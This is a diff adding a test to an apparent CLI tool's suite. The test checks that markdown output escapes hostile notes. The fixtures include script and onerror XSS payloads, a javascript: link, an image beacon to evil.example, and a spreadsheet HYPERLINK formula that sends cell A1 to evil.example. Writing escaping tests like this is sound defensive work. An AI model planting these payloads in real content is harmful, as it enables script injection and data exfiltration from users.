@@ -288,3 +288,26 @@ def test_csv_keeps_numbers_and_a_lone_dash_as_they_are() -> None:
     assert [text_cell("-3"), text_cell("-"), text_cell("-x"), text_cell("\r=1")] == [
         "-3", "-", "'-x", "'\n=1"
     ]  # fmt: skip
+
+
+def test_markdown_shows_html_and_links_as_text(tmp_path: Path, planctl: Planctl) -> None:
+    plan = hostile_plan(tmp_path)
+    db = empty_store(str(tmp_path / "s.db"))
+    notes = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)> & co",
+        "![x](http://evil.example/t.png)",
+        "[x](javascript:alert(1)) *b* _i_ `c` ~~s~~ \\ |",
+    ]
+    for day, note in enumerate(notes, start=1):
+        planctl.ok("note", "t1", note, "--on", f"2018-03-0{day}", db=db, plan=plan)
+    out = planctl.ok("history", "--format", "markdown", "--lang", "en", db=db, plan=plan)
+    cells = [line.split(" | ")[-1] for line in out.splitlines() if line.startswith("| 20")]
+    assert cells == [
+        "\\[x\\](javascript:alert(1)) \\*b\\* \\_i\\_ \\`c\\` \\~\\~s\\~\\~ \\\\ \\| |",
+        "!\\[x\\](http://evil.example/t.png) |",
+        "&lt;img src=x onerror=alert(1)&gt; &amp; co |",
+        "&lt;script&gt;alert(1)&lt;/script&gt; |",
+    ]
+    listed = planctl.ok("list", "--format", "markdown", "--lang", "en", db=db, plan=plan)
+    assert '=HYPERLINK("http://evil.example/?"&amp;A1,"click")' in listed
